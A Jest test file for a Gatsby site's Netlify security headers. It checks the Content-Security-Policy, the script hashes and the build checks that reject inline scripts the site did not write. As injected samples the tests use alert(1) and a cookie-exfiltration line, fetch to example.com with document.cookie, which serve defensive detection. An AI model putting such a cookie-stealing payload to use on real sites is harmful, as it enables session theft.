/**
 * The HTTP headers the site sets: the policies (src/node/postbuild/header-policy.ts,
 * the one place they are defined), the rules written into public/_headers
 * (src/node/postbuild/netlify-headers.ts) and the checks
 * that stop a build whose rules Netlify would serve wrongly, among them an
 * inline script the site does not write (src/node/postbuild/site-scripts.ts).
 * How Netlify's own runtime serves them is the deploy rehearsal's
 * (__tests__/netlify/).
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import {
  ADMIN_RULE_PATH,
  checkHeaderRules,
  fileRulePaths,
  headerRules,
  headersSection,
  injectSection,
  matchesPath,
  PLATFORM_HEADERS,
  rulePathsOf,
  SECTION_END,
  SECTION_START,
  writeHeadersFile,
  type NetlifyHeaderRule,
} from "../../src/node/postbuild/netlify-headers";
import {
  ADMIN_CSP,
  cspHash,
  EVERY_RESPONSE,
  FILE_CSP,
  FILE_POLICY,
  inlineScripts,
  pageCsp,
  parseCsp,
  scriptHashes,
  SITE_CSP,
  SITE_POLICY,
} from "../../src/node/postbuild/header-policy";
import { urlPathOf } from "../../src/node/postbuild/built-pages";
import { headersForPath, parseHeadersSection } from "../support/netlify-config";
import { recogniseScript, SITE_SCRIPTS, type InlineScript } from "../../src/node/postbuild/site-scripts";
import { bundleLoader } from "../../src/node/postbuild/built-html";
import { REVEAL_SCRIPT } from "../../src/browser/reveal-script";
import { consentDefaultsScript } from "../../src/lib/consent/consent-mode";
import { gtagConfigScript } from "../../src/lib/consent/gtag-tags";
import { robotsTxt } from "../../src/node/postbuild/robots";

/** The only hosts the public pages may ever contact: Google's tag and Analytics (after consent), the video player. */
const ANALYTICS_HOSTS = [
  "https://www.googletagmanager.com",
  "https://*.google-analytics.com",
  "https://*.analytics.google.com",
];
const VIDEO_HOST = "https://www.youtube-nocookie.com";

const html = [
  "<html><head>",
  '<script type="application/ld+json">{"@type":"Organization"}</script>',
  '<script>window.pagePath="/accueil";</script>',
  '<script type="module">console.log(1)</script>',
  '<script src="/app.js" async></script>',
  '<script type="text/plain" data-consent-category="analytics">gtag("config","G-X")</script>',
  '<script type="text/plain">not a script</script>',
  "</head></html>",
].join("");

/** Gatsby's page-path script (node_modules/gatsby/cache-dir/static-entry.js), as it writes it. */
const pagePathScript = (pagePath: string) => `/*<![CDATA[*/window.pagePath=${JSON.stringify(pagePath)};/*]]>*/`;
const page = (pagePath: string) =>
  `<html><body><main></main><script id="gatsby-script-loader">${pagePathScript(pagePath)}</script></body></html>`;

/** The measurement options of gatsby-config.ts, with a test ID. */
const MEASURED = {
  measurementId: "G-TEST1234",
  gtagConfig: { anonymize_ip: true, allow_google_signals: false, allow_ad_personalization_signals: false },
  respectDNT: true,
};
const INERT = ' type="text/plain" data-consent-category="analytics"';
const CHUNK_MAP = { app: ["/app-84ddcd9b6fa20730ba74.js"], "contact-form": ["/contact-form-9d0e260c2532f9f59ff6.js"] };
const BUNDLES = ["/webpack-runtime-2ad0024ad7bc5e6065cd.js", "/framework-7c0fe493eac3ac1ffc0b.js", "/app-84ddcd9b.js"];

/** Every kind of inline script a built page of /accueil holds, with analytics on, as the build writes them. */
const SITE_WRITES: Record<string, InlineScript> = {
  reveal: { attributes: "", text: REVEAL_SCRIPT },
  "consent defaults": { attributes: "", text: consentDefaultsScript() },
  "Google tag, inert until consent": {
    attributes: `${INERT} data-src="https://www.googletagmanager.com/gtag/js?id=G-TEST1234"`,
    text: "",
  },
  "Google tag configuration, inert until consent": { attributes: INERT, text: gtagConfigScript(MEASURED) },
  "Gatsby page path": { attributes: ' id="gatsby-script-loader"', text: pagePathScript("/accueil") },
  "Gatsby chunk mapping": {
    attributes: '\n            id="gatsby-chunk-mapping"\n          ',
    text: `\n            window.___chunkMapping=${JSON.stringify(JSON.stringify(CHUNK_MAP))};\n          `,
  },
  "Gatsby webpack compilation hash": {
    attributes: "",
    text: 'window.___webpackCompilationHash="2cd2f60e887060c90990";',
  },
  "bundle loader": { attributes: "", text: bundleLoader(BUNDLES) },
};
const tag = ({ attributes, text }: InlineScript) => `<script${attributes}>${text}</script>`;
const accueil = [
  "<!DOCTYPE html><html><head>",
  tag(SITE_WRITES.reveal),
  tag(SITE_WRITES["consent defaults"]),
  '<script type="application/ld+json" data-gatsby-head="true">{"@type":"Organization"}</script>',
  "</head><body><main><h1>Accueil</h1></main>",
  ...Object.entries(SITE_WRITES)
    .filter(([name]) => !["reveal", "consent defaults"].includes(name))
    .map(([, script]) => tag(script)),
  "</body></html>",
].join("");
/** What a writer's Markdown with raw HTML would have put in a project page. */
const withWritersScript = (html: string, script = "<script>alert(1)</script>") =>
  html.replace("</main>", `<p>Bonjour</p>${script}</main>`);

describe("the public pages' Content-Security-Policy", () => {
  it("forbids framing the site, plugins and any <base>, and keeps forms on the site", () => {
    expect(SITE_CSP.get("frame-ancestors")).toEqual(["'none'"]);
    expect(SITE_CSP.get("object-src")).toEqual(["'none'"]);
    expect(SITE_CSP.get("base-uri")).toEqual(["'none'"]);
    expect(SITE_CSP.get("form-action")).toEqual(["'self'"]);
    expect(SITE_CSP.get("default-src")).toEqual(["'self'"]);
  });

  it("trusts scripts by hash only, and what they add ('strict-dynamic'): no host, not even 'self', no eval", () => {
    expect(SITE_CSP.get("script-src")).toEqual(["'strict-dynamic'"]);
  });

  it("embeds videos from youtube-nocookie.com only, and connects only to the site and Google Analytics", () => {
    expect(SITE_CSP.get("frame-src")).toEqual([VIDEO_HOST]);
    expect(SITE_CSP.get("connect-src")).toEqual(["'self'", ...ANALYTICS_HOSTS]);
  });

  it("is no broader than needed: no wildcard source, no bare scheme but data: images, no eval", () => {
    for (const [directive, sources] of SITE_CSP) {
      for (const source of sources) {
        expect(source).not.toBe("*");
        expect(source).not.toMatch(/^'unsafe-eval'$|^'unsafe-hashes'$/);
        if (/^[a-z]+:$/.test(source)) expect(["img-src data:"]).toContain(`${directive} ${source}`);
        if (/^https?:\/\//.test(source)) expect([...ANALYTICS_HOSTS, VIDEO_HOST]).toContain(source);
        expect(source).not.toMatch(/^http:/);
      }
    }
    expect(SITE_CSP.get("script-src")).not.toContain("'unsafe-inline'");
  });

  it("the CMS's own policy is the only one with 'unsafe-eval'", () => {
    expect(ADMIN_CSP.get("script-src")).toEqual(["'self'", "'unsafe-eval'"]);
    expect(ADMIN_CSP.get("frame-ancestors")).toEqual(["'none'"]);
    expect(SITE_POLICY).not.toContain("unsafe-eval");
  });
});

describe("per-page Content-Security-Policy", () => {
  it("hashes the inline scripts the page runs, and the ones it runs after consent, not data blocks", () => {
    expect(inlineScripts(html).map((script) => script.text)).toEqual([
      'window.pagePath="/accueil";',
      "console.log(1)",
      'gtag("config","G-X")',
    ]);
  });

  it("puts those hashes in script-src, then 'strict-dynamic', then old browsers' fallbacks, and keeps every other directive", () => {
    const directives = parseCsp(
      pageCsp("default-src 'self'; script-src 'strict-dynamic' 'unsafe-inline'; frame-ancestors 'none'", [
        { file: "accueil/index.html", html: accueil },
      ]),
    );
    expect(directives.get("script-src")).toEqual([
      ...inlineScripts(accueil).map((script) => cspHash(script.text)),
      "'strict-dynamic'",
      "'unsafe-inline'",
      "https:",
    ]);
    expect(directives.get("frame-ancestors")).toEqual(["'none'"]);
    expect(directives.get("default-src")).toEqual(["'self'"]);
  });

  it("never lets 'unsafe-inline' stand without a hash: a page without inline scripts runs none", () => {
    const empty = "<!DOCTYPE html><html><head></head><body><main></main></body></html>";
    expect(parseCsp(pageCsp(SITE_POLICY, [{ file: "vide/index.html", html: empty }])).get("script-src")).toEqual([
      "'none'",
    ]);
  });

  it("computes the hash browsers compare (SHA-256 of the exact text, base64)", () => {
    // echo -n 'alert(1)' | openssl dgst -sha256 -binary | base64
    expect(cspHash("alert(1)")).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='");
  });

  it("maps built files to the paths visitors ask for and the files Netlify serves", () => {
    expect(urlPathOf("index.html")).toBe("/");
    expect(urlPathOf("accueil/index.html")).toBe("/accueil");
    expect(urlPathOf("404.html")).toBe("/404.html");
    expect(rulePathsOf("accueil/index.html")).toEqual(["/accueil", "/accueil/index.html", "/accueil.html"]);
    expect(rulePathsOf("projet/kids-care/index.html")).toEqual([
      "/projet/kids-care",
      "/projet/kids-care/index.html",
      "/projet/kids-care.html",
    ]);
    expect(rulePathsOf("index.html")).toEqual(["/", "/index.html"]);
    expect(rulePathsOf("404.html")).toEqual(["/404.html"]);
  });
});

describe("only the inline scripts the site writes are allowed (src/node/postbuild/site-scripts.ts)", () => {
  const at = (pagePath: string) => ({ path: pagePath });

  it.each(Object.entries(SITE_WRITES))("recognises %s, and hashes it", (name, script) => {
    expect(recogniseScript(script, at("/accueil"))?.name).toBe(name);
    expect(scriptHashes([{ file: "accueil/index.html", html: accueil }])).toContain(cspHash(script.text));
  });

  it("knows where each script comes from, and every entry is one the build writes", () => {
    expect(SITE_SCRIPTS.map((known) => known.name).sort()).toEqual(Object.keys(SITE_WRITES).sort());
    for (const known of SITE_SCRIPTS) expect(known.origin).toMatch(/\.(tsx?|js)\b/);
  });

  it("hashes each script of a page once, and no data block", () => {
    const hashes = scriptHashes([{ file: "accueil/index.html", html: accueil }]);
    expect(hashes).toEqual(
      Object.values(SITE_WRITES)
        .map((script) => cspHash(script.text))
        .sort((a, b) => hashes.indexOf(a) - hashes.indexOf(b)),
    );
    expect(hashes).toHaveLength(Object.keys(SITE_WRITES).length);
    expect(hashes).not.toContain(cspHash('{"@type":"Organization"}'));
  });

  it("stops on an inline script the site does not write, naming the page's file and the script", () => {
    const pages = [
      {
        file: "projet/kids-care/index.html",
        html: withWritersScript(accueil.replace('"/accueil"', '"/projet/kids-care"')),
      },
    ];
    expect(() => pageCsp(SITE_POLICY, pages)).toThrow(
      "public/projet/kids-care/index.html\u00a0: script en ligne inconnu du site («\u00a0alert(1)\u00a0»), la construction s’arrête\u00a0:",
    );
    expect(() => headerRules({ pages, publicSite: true })).toThrow(/src\/node\/postbuild\/site-scripts\.ts/);
  });

  it("names every page holding one, and shortens a long script", () => {
    const long = `<script>fetch("https://example.com/?c="+document.cookie)${";void 0".repeat(20)}</script>`;
    const pages = [
      { file: "accueil/index.html", html: withWritersScript(accueil) },
      { file: "cgu/index.html", html: withWritersScript(page("/cgu"), long) },
      { file: "cgv/index.html", html: page("/cgv") },
    ];
    let message = "";
    try {
      headerRules({ pages, publicSite: true });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toMatch(
      /^public\/accueil\/index\.html\u00a0: script en ligne inconnu du site \(«\u00a0alert\(1\)\u00a0»\)/,
    );
    expect(message).toContain(
      'public/cgu/index.html\u00a0: script en ligne inconnu du site («\u00a0fetch("https://example.com/?c="+document.cookie);void 0;void…\u00a0»)',
    );
    expect(message).not.toContain("public/cgv/");
  });

  it("gives a writer's script no hash: the page's known scripts are still recognised, it is not, nothing is written", () => {
    const html = withWritersScript(accueil);
    const scripts = inlineScripts(html);
    const writers = scripts.filter((script) => !recogniseScript(script, at("/accueil")));
    expect(writers).toEqual([{ attributes: "", text: "alert(1)" }]);
    expect(scripts.filter((script) => recogniseScript(script, at("/accueil")))).toHaveLength(
      Object.keys(SITE_WRITES).length,
    );

    const publicDir = fs.mkdtempSync(path.join(os.tmpdir(), "voltis-headers-"));
    try {
      fs.mkdirSync(path.join(publicDir, "accueil"));
      fs.writeFileSync(path.join(publicDir, "accueil", "index.html"), html);
      fs.writeFileSync(
        path.join(publicDir, "_headers"),
        "# gatsby-adapter-netlify start\n# gatsby-adapter-netlify end\n",
      );
      expect(() => writeHeadersFile({ publicDir, publicSite: true })).toThrow(
        /public\/accueil\/index\.html\u00a0: script en ligne inconnu du site/,
      );
      const headers = fs.readFileSync(path.join(publicDir, "_headers"), "utf8");
      expect(headers).not.toContain(SECTION_START);
      expect(headers).not.toContain(cspHash("alert(1)"));
      // Without it, the same page gets its policy.
      fs.writeFileSync(path.join(publicDir, "accueil", "index.html"), accueil);
      expect(writeHeadersFile({ publicDir, publicSite: true })).toBe(1);
      expect(fs.readFileSync(path.join(publicDir, "_headers"), "utf8")).toContain(cspHash(REVEAL_SCRIPT));
    } finally {
      fs.rmSync(publicDir, { recursive: true, force: true });
    }
  });

  it("an inert analytics script is hashed only when it is the site's", () => {
    const inertAlert = `<script${INERT}>alert(1)</script>`;
    expect(inlineScripts(inertAlert)).toHaveLength(1);
    expect(() => scriptHashes([{ file: "accueil/index.html", html: withWritersScript(accueil, inertAlert) }])).toThrow(
      /script en ligne inconnu du site \(«\u00a0alert\(1\)\u00a0»\)/,
    );
  });

  const loader = SITE_WRITES["bundle loader"].text;
  const config = SITE_WRITES["Google tag configuration, inert until consent"];
  const chunks = SITE_WRITES["Gatsby chunk mapping"];
  it.each<[string, InlineScript]>([
    ["the reveal script, changed", { attributes: "", text: REVEAL_SCRIPT.replace("8%", "9%") }],
    ["the reveal script, with code after it", { attributes: "", text: `${REVEAL_SCRIPT}alert(1)` }],
    ["the reveal script as a module", { attributes: ' type="module"', text: REVEAL_SCRIPT }],
    ["a loader of another site's script", { attributes: "", text: bundleLoader(["https://example.com/x.js"]) }],
    ["a loader of nothing", { attributes: "", text: bundleLoader([]) }],
    ["a loader with code added", { attributes: "", text: loader.replace("l.d=1;", "l.d=1;alert(1);") }],
    ["the consent defaults, changed", { attributes: "", text: consentDefaultsScript().replace("denied", "granted") }],
    ["the consent defaults, inert", { attributes: INERT, text: consentDefaultsScript() }],
    ["Google's configuration, not inert", { attributes: "", text: config.text }],
    [
      "Google's configuration with code added",
      { ...config, text: config.text.replace('window.gtag("js"', 'alert(1);window.gtag("js"') },
    ],
    [
      "Google's configuration with code in a value",
      { ...config, text: gtagConfigScript({ ...MEASURED, gtagConfig: { a: 1 } }).replace('{"a":1,', '{"a":alert(1),') },
    ],
    [
      "an inert script of another host",
      { attributes: `${INERT} data-src="https://example.com/gtag/js?id=G-TEST1234"`, text: "" },
    ],
    ["Google's tag, inert, with text", { ...SITE_WRITES["Google tag, inert until consent"], text: "alert(1)" }],
    ["another page's path", { attributes: ' id="gatsby-script-loader"', text: pagePathScript("/cgu") }],
    [
      "the page's path with code added",
      { attributes: ' id="gatsby-script-loader"', text: `${pagePathScript("/accueil")}alert(1)` },
    ],
    ["the page's path without Gatsby's id", { attributes: "", text: pagePathScript("/accueil") }],
    ["a chunk mapping with code added", { ...chunks, text: chunks.text.replace(";\n", ";alert(1);\n") }],
    [
      "a chunk mapping of something else",
      { ...chunks, text: chunks.text.replace("/app-84ddcd9b6fa20730ba74.js", "https://example.com/x.js") },
    ],
    [
      "a compilation hash with code added",
      { attributes: "", text: 'window.___webpackCompilationHash="2cd2f60e887060c90990";alert(1);' },
    ],
    ["a compilation hash that is not one", { attributes: "", text: 'window.___webpackCompilationHash="alert(1)";' }],
    ["a writer's script", { attributes: "", text: "alert(1)" }],
  ])("does not take %s for the site's", (_what, script) => {
    // A near miss, not one of the scripts the site writes.
    expect(Object.values(SITE_WRITES)).not.toContainEqual(script);
    expect(recogniseScript(script, at("/accueil"))).toBeUndefined();
  });
});

describe("matching paths as Netlify does", () => {
  it.each([
    ["/*", "/", true],
    ["/*", "/projet/kids-care", true],
    ["/accueil", "/accueil", true],
    ["/accueil", "/accueil/", true],
    ["/accueil", "/Accueil", true],
    ["/accueil", "/accueil/plus", false],
    ["/accueil", "/accueil.html", false],
    ["/admin/*", "/admin", true],
    ["/admin/*", "/admin/", true],
    ["/admin/*", "/admin/cms.js", true],
    // Netlify's own parser (@netlify/headers-parser) makes the slash before a splat optional.
    ["/admin/*", "/administration", true],
    ["/projet/:slug", "/projet/kids-care", true],
    ["/projet/:slug", "/projet/kids-care/plus", false],
    ["/*.js", "/static/app.js", true],
  ])("%s matches %s: %s", (pattern, requestPath, expected) => {
    expect(matchesPath(pattern, requestPath)).toBe(expected);
  });
});

describe("the rules of public/_headers", () => {
  const pages = [
    { file: "accueil/index.html", html: page("/accueil") },
    { file: "404.html", html: page("/404.html") },
    { file: "404/index.html", html: page("/404") },
  ];
  const rules = headerRules({ pages, publicSite: true });

  it("gives every response HSTS and Permissions-Policy, and nothing Gatsby's adapter already sends", () => {
    expect(headersForPath(rules, "/static/app-0123.js")).toEqual(EVERY_RESPONSE);
    expect(EVERY_RESPONSE["Strict-Transport-Security"]).toMatch(/max-age=31536000/);
    expect(EVERY_RESPONSE["Permissions-Policy"]).toMatch(/camera=\(\), microphone=\(\), geolocation=\(\)/);
  });

  it("gives each page its own policy under its address and its files", () => {
    for (const requestPath of ["/accueil", "/accueil/", "/accueil/index.html", "/accueil.html"]) {
      const policy = parseCsp(headersForPath(rules, requestPath)["Content-Security-Policy"] ?? "");
      expect(policy.get("script-src")).toContain(cspHash(pagePathScript("/accueil")));
    }
  });

  it("allows both 404 pages' scripts where the adapter may serve either of them", () => {
    const policy = parseCsp(headersForPath(rules, "/404.html")["Content-Security-Policy"] ?? "");
    expect(policy.get("script-src")).toEqual(
      expect.arrayContaining([cspHash(pagePathScript("/404.html")), cspHash(pagePathScript("/404"))]),
    );
  });

  it("gives /admin/ its own policy and keeps it out of search engines", () => {
    const admin = headersForPath(rules, "/admin/");
    expect(admin["Content-Security-Policy"]).toContain("'unsafe-eval'");
    expect(admin["X-Robots-Tag"]).toBe("noindex, nofollow");
    expect(rules.find((rule) => rule.for === ADMIN_RULE_PATH)).toBeDefined();
  });

  it("keeps a preview out of search engines with one X-Robots-Tag on every path, the CMS's included", () => {
    const preview = headerRules({ pages, publicSite: false });
    expect(headersForPath(preview, "/accueil")["X-Robots-Tag"]).toBe("noindex");
    expect(headersForPath(preview, "/admin/")["X-Robots-Tag"]).toBe("noindex");
    expect(() => checkHeaderRules(preview, ["/accueil", "/admin/", "/admin/index.html"])).not.toThrow();
    expect(headersForPath(rules, "/accueil")["X-Robots-Tag"]).toBeUndefined();
  });

  it("writes one line per header, and reads back what it wrote", () => {
    const section = headersSection(rules, ["/accueil", "/admin/"]);
    expect(section.startsWith(`${SECTION_START}\n`)).toBe(true);
    expect(section.trimEnd().endsWith(SECTION_END)).toBe(true);
    expect(parseHeadersSection(section)).toEqual(rules);
  });

  it("replaces its own section and keeps what gatsby-adapter-netlify wrote", () => {
    const adapter = "# gatsby-adapter-netlify start\n/*\n  x-frame-options: DENY\n# gatsby-adapter-netlify end\n";
    const preview = headersSection(headerRules({ pages, publicSite: false }), []);
    const first = injectSection(adapter, preview);
    const second = injectSection(first, headersSection(rules, []));
    expect(second.startsWith(adapter)).toBe(true);
    expect(second.split(SECTION_START)).toHaveLength(2);
    expect(second.split(SECTION_END)).toHaveLength(2);
    expect(second).not.toMatch(/X-Robots-Tag: noindex$/m);
  });
});

describe("files that are not pages: nothing runs when one is opened on its own", () => {
  /** What a build holds besides its pages, as public/ lists it. */
  const FILES = [
    "404.html",
    "accueil/index.html",
    "projet/kids-care/index.html",
    "projet/kids-care/plan.pdf",
    "app-84ddcd9b6fa20730ba74.js",
    "styles.f86f20061f5a9f95294c.css",
    "manifest.webmanifest",
    "robots.txt",
    "static/0123456789abcdef0123456789abcdef/logo.svg",
    "static/inter-fr-wght-ed4195178ee7e34c535f94a672288e61.woff2",
    "page-data/accueil/page-data.json",
    "page-data/app-data.json",
    "icons/icon-48x48.png",
    "images/uploads/affiche.svg",
    "_gatsby/slices/_gatsby-scripts-1.html",
    "admin/index.html",
    "admin/cms.js",
    "_headers",
    "_redirects",
  ];
  const pages = [
    { file: "404.html", html: page("/404.html") },
    { file: "accueil/index.html", html: page("/accueil") },
    { file: "projet/kids-care/index.html", html: page("/projet/kids-care") },
  ];
  const rules = headerRules({ pages, files: FILES, publicSite: true });
  const cspOf = (requestPath: string) => headersForPath(rules, requestPath)["Content-Security-Policy"];

  it("runs nothing: no source of script, plugin, frame, connection or font, a sandbox, and the adapter's nosniff", () => {
    expect(FILE_CSP.get("default-src")).toEqual(["'none'"]);
    for (const directive of ["script-src", "object-src", "frame-src", "connect-src", "font-src", "worker-src"])
      expect([directive, FILE_CSP.has(directive)]).toEqual([directive, false]);
    expect(FILE_CSP.get("sandbox")).toEqual([]);
    expect(FILE_CSP.get("frame-ancestors")).toEqual(["'none'"]);
    // What an SVG drawing may use: its inline styles and its images.
    expect(FILE_CSP.get("style-src")).toEqual(["'unsafe-inline'"]);
    expect(FILE_CSP.get("img-src")).toEqual(["'self'", "data:"]);
    // Sent by gatsby-adapter-netlify on every path, so never by a rule of ours (it would be sent twice).
    expect(PLATFORM_HEADERS["x-content-type-options"]).toBe("nosniff");
  });

  it("covers a folder without pages as a whole, any other file by its path, and leaves out pages, the CMS and Netlify's files", () => {
    expect(
      fileRulePaths(
        FILES,
        pages.map((built) => built.file),
      ),
    ).toEqual([
      "/projet/kids-care/plan.pdf",
      "/app-84ddcd9b6fa20730ba74.js",
      "/styles.f86f20061f5a9f95294c.css",
      "/manifest.webmanifest",
      "/robots.txt",
      "/static/*",
      "/page-data/*",
      "/icons/*",
      "/images/*",
      "/_gatsby/*",
    ]);
    expect(fileRulePaths(["static/mon logo.svg", "mon fichier.txt"], [])).toEqual(["/static/*", "/mon%20fichier.txt"]);
  });

  it.each([
    "/static/0123456789abcdef0123456789abcdef/logo.svg",
    "/static/inter-fr-wght-ed4195178ee7e34c535f94a672288e61.woff2",
    "/page-data/accueil/page-data.json",
    "/icons/icon-48x48.png",
    "/images/uploads/affiche.svg",
    "/_gatsby/slices/_gatsby-scripts-1.html",
    "/app-84ddcd9b6fa20730ba74.js",
    "/manifest.webmanifest",
    "/projet/kids-care/plan.pdf",
  ])("%s gets the policy under which nothing runs, and only that one", (requestPath) => {
    expect(cspOf(requestPath)).toBe(FILE_POLICY);
    expect(() => checkHeaderRules(rules, [requestPath])).not.toThrow();
  });

  it("leaves each page its own policy, the CMS its own, and the contact function's answers to the function", () => {
    for (const requestPath of ["/accueil", "/accueil.html", "/projet/kids-care", "/404.html"]) {
      expect([requestPath, cspOf(requestPath)]).not.toEqual([requestPath, FILE_POLICY]);
      expect(cspOf(requestPath)).toMatch(/'sha256-/);
    }
    expect(cspOf("/admin/cms.js")).toContain("'unsafe-eval'");
    expect(cspOf("/api/contact-us")).toBeUndefined();
    expect(() =>
      checkHeaderRules(rules, ["/accueil", "/projet/kids-care", "/404.html", "/admin/", "/admin/cms.js"]),
    ).not.toThrow();
  });

  it("is written into public/_headers for the files of the build", () => {
    const publicDir = fs.mkdtempSync(path.join(os.tmpdir(), "voltis-headers-"));
    try {
      for (const [file, text] of [
        ["accueil/index.html", accueil],
        ["static/0123456789abcdef0123456789abcdef/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'],
        ["app-84ddcd9b6fa20730ba74.js", ""],
      ]) {
        fs.mkdirSync(path.dirname(path.join(publicDir, file)), { recursive: true });
        fs.writeFileSync(path.join(publicDir, file), text);
      }
      writeHeadersFile({ publicDir, publicSite: true });
      const written = parseHeadersSection(fs.readFileSync(path.join(publicDir, "_headers"), "utf8"));
      expect(headersForPath(written, "/static/0123456789abcdef0123456789abcdef/logo.svg")).toEqual({
        ...EVERY_RESPONSE,
        "Content-Security-Policy": FILE_POLICY,
      });
      expect(headersForPath(written, "/app-84ddcd9b6fa20730ba74.js")["Content-Security-Policy"]).toBe(FILE_POLICY);
      expect(headersForPath(written, "/accueil")["Content-Security-Policy"]).toContain(cspHash(REVEAL_SCRIPT));
      // Its own _headers is not a file Netlify serves: no rule for it.
      expect(written.map((rule) => rule.for)).not.toContain("/_headers");
    } finally {
      fs.rmSync(publicDir, { recursive: true, force: true });
    }
  });
});

describe("rules Netlify would serve wrongly stop the build", () => {
  it("a value with a line break (it breaks the HTTP response)", () => {
    const rules = [{ for: "/*", values: { "Content-Security-Policy": "default-src 'self';\n  img-src 'self'" } }];
    expect(() => checkHeaderRules(rules, ["/"])).toThrow(/\/\* : Content-Security-Policy contient un saut de ligne/);
  });

  it("two rules setting the same header for one path, whatever the case", () => {
    const rules: NetlifyHeaderRule[] = [
      { for: "/*", values: { "Content-Security-Policy": "default-src 'self'" } },
      { for: "/accueil", values: { "content-security-policy": "default-src 'none'" } },
    ];
    expect(() => checkHeaderRules(rules, ["/accueil"])).toThrow(
      /\/accueil : content-security-policy posé à la fois par « \/\* » et « \/accueil »/,
    );
    expect(() => checkHeaderRules(rules, ["/realisation"])).not.toThrow();
  });

  it("a header that gatsby-adapter-netlify already sends on every path", () => {
    const rules = [{ for: "/admin/*", values: { "Cache-Control": "no-store" } }];
    expect(() => checkHeaderRules(rules, [])).toThrow(
      /Cache-Control est déjà envoyé par l’adaptateur Netlify de Gatsby/,
    );
  });
});

describe("robots.txt", () => {
  it("lets crawlers in and points at the sitemap on the public site", () => {
    const text = robotsTxt({ publicSite: true, siteUrl: "https://www.voltis-digital.fr" });
    expect(text).toMatch(/^User-agent: \*$/m);
    expect(text).toMatch(/^Allow: \/$/m);
    expect(text).not.toMatch(/^Disallow: \/$/m);
    expect(text).toMatch(/^Sitemap: https:\/\/www\.voltis-digital\.fr\/sitemap-index\.xml$/m);
  });

  it("keeps every crawler out of a preview", () => {
    const text = robotsTxt({ publicSite: false, siteUrl: "https://www.voltis-digital.fr" });
    expect(text).toMatch(/^Disallow: \/$/m);
    expect(text).not.toMatch(/Sitemap/);
  });
});
